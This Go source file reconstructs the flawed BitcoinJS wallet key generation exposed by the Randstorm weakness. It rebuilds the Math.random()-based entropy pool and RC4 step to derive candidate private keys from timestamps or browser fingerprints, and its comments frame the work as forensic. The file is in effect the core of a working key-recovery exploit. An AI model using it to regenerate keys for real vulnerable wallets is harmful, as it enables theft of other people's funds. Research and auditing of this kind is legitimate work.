package randstorm

// BitcoinJS v0.1.3 entropy pipeline.
//
// The vulnerable wallet generators shipped a browser-version check that
// failed in every 2011-era browser ("5.0" is not < "5" as a string), so the
// entropy pool was never topped up from window.crypto and contained nothing
// but Math.random() output plus the generation timestamp. Reconstructing the
// pool therefore requires only the engine state and the timestamp.

const entropyPoolSize = 256

// arc4 is the RC4 keystream generator BitcoinJS used to whiten its entropy
// pool before cutting private keys from it.
type arc4 struct {
	i, j uint8
	s    [256]uint8
}

// newArc4 key-schedules the cipher with the entropy pool as the key.
func newArc4(key []byte) *arc4 {
	a := &arc4{}
	for i := 0; i < 256; i++ {
		a.s[i] = uint8(i)
	}
	var j uint8
	for i := 0; i < 256; i++ {
		j += a.s[i] + key[i%len(key)]
		a.s[i], a.s[j] = a.s[j], a.s[i]
	}
	return a
}

// next returns the next keystream byte.
func (a *arc4) next() uint8 {
	a.i++
	a.j += a.s[a.i]
	a.s[a.i], a.s[a.j] = a.s[a.j], a.s[a.i]
	return a.s[a.s[a.i]+a.s[a.j]]
}

// fill writes keystream bytes into buf.
func (a *arc4) fill(buf []byte) {
	for k := range buf {
		buf[k] = a.next()
	}
}

// EntropyPool reconstructs the 256-byte BitcoinJS entropy pool for a seeded
// engine state and generation timestamp. The pool is filled with successive
// 16-bit Math.random() draws (high byte first), then the low 32 bits of the
// timestamp are XORed into the first four bytes, exactly as rng_seed_time
// did.
func EntropyPool(state PrngState, timestampMS uint64) [entropyPoolSize]byte {
	var pool [entropyPoolSize]byte

	for ptr := 0; ptr < entropyPoolSize; {
		r := state.NextU16()
		pool[ptr] = byte(r >> 8)
		ptr++
		if ptr < entropyPoolSize {
			pool[ptr] = byte(r)
			ptr++
		}
	}

	ts := uint32(timestampMS)
	pool[0] ^= byte(ts)
	pool[1] ^= byte(ts >> 8)
	pool[2] ^= byte(ts >> 16)
	pool[3] ^= byte(ts >> 24)

	return pool
}

// KeyFromState runs the full vulnerable derivation for an already-seeded
// state: entropy pool, ARC4 key schedule, first 32 keystream bytes.
func KeyFromState(state PrngState, timestampMS uint64) [32]byte {
	pool := EntropyPool(state, timestampMS)
	cipher := newArc4(pool[:])
	var key [32]byte
	cipher.fill(key[:])
	return key
}

// KeyFromTimestamp derives the candidate private key a vulnerable wallet
// would have produced at the given timestamp under the given engine. This is
// the historically validated path.
func KeyFromTimestamp(engine Engine, timestampMS uint64) [32]byte {
	return KeyFromState(engine.SeedFromTimestamp(timestampMS), timestampMS)
}

// KeyFromFingerprint derives the candidate key with fingerprint-hash
// seeding. The seeding heuristic is a forensic approximation (see
// Engine.SeedFromFingerprint); findings produced through it carry lower
// confidence.
func KeyFromFingerprint(engine Engine, fp *BrowserFingerprint) [32]byte {
	return KeyFromState(engine.SeedFromFingerprint(fp), fp.TimestampMS)
}
